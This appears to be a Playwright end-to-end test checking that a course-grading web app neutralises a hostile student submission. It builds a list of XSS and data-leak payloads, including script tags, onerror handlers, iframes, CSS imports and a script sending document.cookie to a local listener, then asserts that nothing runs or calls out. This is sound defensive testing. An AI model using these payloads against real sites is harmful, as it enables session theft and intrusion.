import { expect, test } from "@playwright/test";
import { instructorTexts } from "../../../src/host/messages/instructor.ts";
import { readingTexts } from "../../../src/host/messages/reading.ts";
import { listen } from "../listener.ts";
import { type RunningClass, startClass } from "./class-process.ts";
import { tfidf } from "./support.ts";
import { enrol, fileOf, handIn, labHashOf, newPage, part, teach } from "./teaching.ts";

const texts = instructorTexts["pt-BR"];
const reading = readingTexts["pt-BR"];
const cell = tfidf.exercises[0]?.cell ?? 0;

let running: RunningClass;
test.beforeAll(async () => {
  running = await startClass();
});
test.afterAll(() => running?.stop());

test("a hostile submission reaches nobody, reads nothing, and gives no grade", async ({ browser }) => {
  test.setTimeout(240_000);
  const [rita, eva] = [await newPage(browser), await newPage(browser)];
  const { url } = running;
  const { course, joinCode } = await teach(rita, running);
  const outside = await listen();
  const E = outside.http;
  const markup = `<img src="${E}/name" onerror="globalThis.broken=1"><script>globalThis.broken=1</script>`;
  const hostile = [
    `<link rel="preconnect" href="${outside.tcp}"><link rel="dns-prefetch" href="${E}"><link rel="stylesheet" href="${E}/css">`,
    `<meta http-equiv="refresh" content="0;url=${E}/refresh"><base href="${E}/">`,
    `<img src="${E}/img" srcset="${E}/srcset 2x"><video poster="${E}/poster" src="${E}/video"></video><audio src="${E}/audio" autoplay></audio>`,
    `<img src="/api/stolen">`,
    `<iframe src="${E}/frame"></iframe><iframe srcdoc="<img src='${E}/srcdoc'>"></iframe><object data="${E}/object"></object><embed src="${E}/embed">`,
    `<svg><image href="${E}/svg"/><use href="${E}/use#a"/><script>parent.broken=1</script><foreignObject><img src="${E}/fo"></foreignObject><animate attributeName="href" values="${E}/a"/></svg>`,
    `<div style="background:url(${E}/background)">x</div><style>@import url(${E}/import);body{background:url(${E}/body)}</style>`,
    `<form action="/api/session" method="post"><button autofocus>x</button></form><math><mtext><img src="${E}/math"></mtext></math>`,
    `<script>fetch("${E}/script?"+document.cookie);parent.localStorage.x=1;parent.broken=1</script><p id="stands">fim</p>`,
  ].join("\n");
  await enrol(eva, url, { name: `Eva ${markup}`.slice(0, 120), email: "eva@example.edu", joinCode });
  const labHash = await labHashOf(rita, url);
  const headers = { origin: url };
  const made = await rita.request.post(`${url}/api/courses/${course}/assignments`, {
    headers,
    data: {
      ...{ title: `Tarefa ${markup}`, labHash, maxPoints: 10 },
      ...{ opensAt: "2020-01-01T00:00:00Z", dueAt: "2190-01-01T00:00:00Z" },
    },
  });
  const { id: task } = await made.json();
  const file = fileOf(labHash, hostile, {
    names: [markup.slice(0, 120)],
    changed: [{ cell, text: `${markup}\nconst idf = () => 0;` }],
    own: [{ id: 1_000_001, after: cell, mode: "md", text: markup }],
    outputs: [{ cell, summary: markup, error: markup }],
    reflections: [{ reflection: "x", text: markup }],
  });
  const { id } = await handIn(eva, url, task, file);
  const comment = await rita.request.post(`${url}/api/submissions/${id}/comments`, {
    headers,
    data: { cell, text: markup },
  });
  expect(comment.status()).toBe(201);

  const asked: string[] = [];
  rita.on("request", (request) => asked.push(`${request.method()} ${request.url()}`));
  await rita.addInitScript(() => localStorage.setItem("canary", "untouched"));
  await rita.goto(`${url}/class/${course}/submissions/${id}`);
  await expect(rita.getByRole("article", { name: reading.cell(cell) })).toContainText("const idf = () => 0;");
  await rita.getByRole("button", { name: reading.showPage }).click();
  const frame = rita.frameLocator("iframe.reading__page");
  await expect(frame.getByText("fim")).toBeVisible();
  // Whatever the markup starts has had its time once other pages came and went.
  await part(rita, texts.parts.grades).click();
  await expect(rita.getByRole("button", { name: /Eva/ })).toBeVisible();
  await rita.getByRole("button", { name: /Eva/ }).click();
  await expect(rita.getByRole("dialog")).toBeVisible();
  await rita.keyboard.press("Escape");
  await part(rita, texts.parts.submissions).click();
  await rita.getByRole("link", { name: /Eva/ }).click();
  await rita.getByRole("button", { name: reading.showPage }).click();
  await expect(frame.getByText("fim")).toBeVisible();
  await eva.goto(`${url}/class`);
  await expect(eva.getByText(/^Tarefa </).first()).toBeVisible();

  expect(outside.paths).toEqual([]);
  expect(outside.counts).toEqual({ tcp: 0, udp: 0 });
  expect(asked.filter((one) => !one.includes(url) && !/^GET (data|blob):/.test(one))).toEqual([]);
  expect(asked.filter((one) => !one.startsWith("GET") || one.includes("stolen"))).toEqual([]);
  for (const page of [rita, eva]) {
    expect(await page.evaluate(() => "broken" in globalThis)).toBe(false);
  }
  expect(await rita.evaluate(() => [localStorage.getItem("canary"), localStorage.getItem("x")])).toEqual([
    "untouched",
    null,
  ]);
  const standing = await rita.request.get(`${url}/api/courses/${course}/gradebook`);
  const [row] = (await standing.json()).students;
  expect(row.cells[0].manual).toBe(false);
  // The listener hears who asks: nothing above was silent for want of ears.
  await fetch(`${E}/control`);
  expect(outside.paths).toEqual(["/control"]);
  await outside.close();
});
